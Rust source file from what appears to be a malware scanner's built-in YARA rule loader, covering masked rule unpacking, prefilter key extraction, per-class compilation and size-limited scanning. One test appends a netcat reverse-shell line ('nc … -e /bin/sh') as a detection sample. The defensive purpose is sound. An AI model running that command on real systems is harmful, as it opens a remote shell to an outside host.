//! Our own rules, sorted by the class of file they are for.
//!
//! Every rule names its *keys*: plain strings `$key…`, of which each file that it matches
//! holds at least one, because its condition begins with `any of ($key*)`. A file in which the
//! prefilter sees no key of its class is done; the engine looks at the few others. A test
//! holds the rules to this form, so that nothing is lost by it.
//!
//! Rules are text in `rules/yara/*.yar`; `build.rs` masks them, and their samples lie beside
//! them.

use std::sync::{Arc, LazyLock, OnceLock};

use regex::Regex;

use super::pack::{Pack, PackBuilder};
use super::split::{Kind, split};
use super::{FileClass, ScanLimits, YaraFile, YaraRules, YaraScan};
use crate::file_type::FileType;
use crate::matching::prefilter::{Anchor, Prefilter, best_part, grams_place};

/// Most bytes of a text that are looked at.
const MAX_TEXT: usize = 64 << 20;

/// A rule of ours, as text.
#[derive(Debug, Clone)]
pub(super) struct Source {
    pub file: String,
    pub text: String,
    /// Words of `applies`.
    pub applies: Vec<String>,
    pub keys: Vec<Key>,
}

/// A string of which a file that matches has at least one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Key {
    pub bytes: Vec<u8>,
    pub ignore_case: bool,
}

/// The rules of one class.
struct ClassPack {
    keys: Prefilter,
    pack: Pack,
}

struct Inner {
    sources: Vec<Source>,
    revision: u64,
    classes: [OnceLock<Option<ClassPack>>; FileClass::ALL.len()],
}

/// Our own rules; a class is compiled when its first file comes.
#[derive(Clone)]
pub(super) struct Builtin(Arc<Inner>);

impl YaraRules {
    /// Our own rules. They are shared: every call gives the same.
    pub fn builtin() -> YaraRules {
        static BUILTIN: LazyLock<Builtin> = LazyLock::new(|| Builtin::new(sources()));
        YaraRules {
            packs: Vec::new(),
            builtin: Some(BUILTIN.clone()),
        }
    }
}

/// The rules as they were packed by `build.rs`.
pub(super) fn sources() -> Vec<Source> {
    let mut packed = include_bytes!(concat!(env!("OUT_DIR"), "/yara_rules.bin")).to_vec();
    mask(&mut packed);
    let mut rest = packed.as_slice();
    let mut next = || -> Option<String> {
        let (length, tail) = rest.split_first_chunk()?;
        let (part, tail) = tail.split_at_checked(u32::from_le_bytes(*length) as usize)?;
        rest = tail;
        String::from_utf8(part.to_vec()).ok()
    };
    let mut sources = Vec::new();
    while let (Some(file), Some(text)) = (next(), next()) {
        for piece in split(text.as_bytes()) {
            if matches!(piece.kind, Kind::Rule(_)) {
                let text = String::from_utf8(piece.text).unwrap_or_default();
                sources.push(Source {
                    file: file.clone(),
                    applies: applies(&text),
                    keys: keys(&text),
                    text,
                });
            }
        }
    }
    sources
}

/// The same as in `build.rs`.
fn mask(bytes: &mut [u8]) {
    let mut key = 0x5du8;
    for byte in bytes {
        *byte ^= key;
        key = key.wrapping_mul(5).wrapping_add(17);
    }
}

/// Without `\s` and its like: the program is built without Unicode's tables, while the tests get
/// them along with other crates.
#[expect(
    clippy::expect_used,
    reason = "patterns of ours, which the tests compile"
)]
fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("a valid pattern")
}

fn applies(text: &str) -> Vec<String> {
    static APPLIES: LazyLock<Regex> =
        LazyLock::new(|| pattern(r#"applies[ \t]*=[ \t]*"([a-z ]+)""#));
    let words = APPLIES.captures(text).and_then(|found| found.get(1));
    words
        .map(|words| words.as_str().split(' ').map(str::to_owned).collect())
        .unwrap_or_default()
}

fn keys(text: &str) -> Vec<Key> {
    static KEY: LazyLock<Regex> = LazyLock::new(|| {
        pattern(r#"\$key[0-9a-z_]*[ \t]*=[ \t]*"((?:[^"\\]|\\.)*)"[ \t]*(nocase)?"#)
    });
    KEY.captures_iter(text)
        .filter_map(|found| {
            let ignore_case = found.get(2).is_some();
            let mut bytes = unescape(found.get(1)?.as_str());
            if ignore_case {
                bytes.make_ascii_lowercase();
            }
            Some(Key { bytes, ignore_case })
        })
        .collect()
}

/// The bytes of a string as rule files write it.
fn unescape(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut rest = text.as_bytes();
    while let Some((byte, tail)) = rest.split_first() {
        rest = tail;
        let escaped = (*byte == b'\\').then(|| rest.split_first()).flatten();
        let Some((escaped, tail)) = escaped else {
            bytes.push(*byte);
            continue;
        };
        rest = tail;
        bytes.push(match escaped {
            b'n' => b'\n',
            b'r' => b'\r',
            b't' => b'\t',
            b'x' => {
                let digits = rest.get(..2).and_then(|hex| std::str::from_utf8(hex).ok());
                let value = digits.and_then(|hex| u8::from_str_radix(hex, 16).ok());
                rest = rest.get(2..).unwrap_or_default();
                value.unwrap_or(b'?')
            }
            other => *other,
        });
    }
    bytes
}

impl Builtin {
    pub(super) fn new(sources: Vec<Source>) -> Builtin {
        let mut hash = xxhash_rust::xxh3::Xxh3::new();
        for source in &sources {
            for part in [&source.file, &source.text] {
                hash.update(&(part.len() as u64).to_le_bytes());
                hash.update(part.as_bytes());
            }
        }
        // How rules are run is in the revision of any set, also of an empty one.
        let run = PackBuilder::new().finish(limits(FileClass::Elf), "");
        hash.update(&run.revision().to_le_bytes());
        Builtin(Arc::new(Inner {
            sources,
            revision: hash.digest(),
            classes: std::array::from_fn(|_| OnceLock::new()),
        }))
    }

    pub(super) fn revision(&self) -> u64 {
        self.0.revision
    }

    /// The rules of all classes, compiled.
    pub(super) fn packs(&self) -> Vec<&Pack> {
        FileClass::ALL
            .into_iter()
            .filter_map(|class| Some(&self.class(class)?.pack))
            .collect()
    }

    pub(super) fn scan(&self, bytes: &[u8], file: &YaraFile<'_>, scan: &mut YaraScan) {
        let file_type = file.file_type.unwrap_or_else(|| FileType::detect(bytes));
        for class in FileClass::of(file.path, file_type, bytes) {
            let Some(rules) = self.class(class) else {
                continue;
            };
            let most = limits(class).max_bytes;
            let looked_at = bytes.get(..bytes.len().min(most)).unwrap_or_default();
            scan.limited |= looked_at.len() < bytes.len();
            let mut there = false;
            rules.keys.find(looked_at, 0, |_, _, _| there = true);
            if there {
                rules.pack.scan(looked_at, file, scan);
            }
        }
    }

    fn class(&self, class: FileClass) -> Option<&ClassPack> {
        let number = FileClass::ALL.iter().position(|other| *other == class)?;
        self.0
            .classes
            .get(number)?
            .get_or_init(|| ClassPack::new(class, &self.0.sources))
            .as_ref()
    }
}

impl ClassPack {
    fn new(class: FileClass, sources: &[Source]) -> Option<ClassPack> {
        let mut builder = PackBuilder::new();
        let mut anchors = Vec::new();
        for source in sources {
            if !source.applies.iter().any(|word| class.is_meant_by(word)) {
                continue;
            }
            // A rule that does not compile is caught by the tests that run all samples.
            if builder.add(&source.file, &source.text).is_err() {
                continue;
            }
            anchors.extend(source.keys.iter().filter_map(|key| {
                let (_, start, length) = best_part(&key.bytes)?;
                let literal = key.bytes.get(start..start + length)?.to_vec();
                Some(Anchor {
                    place: grams_place(&literal),
                    literal,
                    ignore_case: key.ignore_case,
                    record: 0,
                    sub: 0,
                    low: 0,
                    high: u32::MAX,
                })
            }));
        }
        (!anchors.is_empty()).then(|| ClassPack {
            keys: Prefilter::new(anchors),
            pack: builder.finish(limits(class), ""),
        })
    }
}

fn limits(class: FileClass) -> ScanLimits {
    let mut limits = ScanLimits::default();
    if !matches!(class, FileClass::Elf | FileClass::Binary) {
        limits.max_bytes = MAX_TEXT;
    }
    limits
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_are_read_as_the_language_writes_them() {
        let text = r#"$key = "a\"b\\\x41\t" nocase $key_2="ABC" ascii $other = "x""#;
        let keys = keys(text);
        assert_eq!(keys.len(), 2);
        assert_eq!(keys[0].bytes, b"a\"b\\a\t");
        assert!(keys[0].ignore_case && !keys[1].ignore_case);
        assert_eq!(keys[1].bytes, b"ABC");
    }

    #[test]
    fn text_beyond_the_bound_is_told() {
        let scan = |bytes: &[u8]| {
            let mut scan = YaraScan::default();
            let file = YaraFile {
                path: "a.sh",
                ..YaraFile::default()
            };
            Builtin::new(sources()).scan(bytes, &file, &mut scan);
            scan
        };
        let mut text = vec![b'a'; MAX_TEXT];
        assert!(!scan(&text).limited);
        text.extend_from_slice(b"\nnc 203.0.113.5 1 -e /bin/sh");
        let beyond = scan(&text);
        assert!(beyond.limited && beyond.matches.is_empty());
    }

    #[test]
    fn the_program_does_not_carry_its_rules_readably() {
        let packed = include_bytes!(concat!(env!("OUT_DIR"), "/yara_rules.bin"));
        assert!(memchr::memmem::find(packed, b"condition").is_none());
        assert!(sources().len() > 40);
    }
}
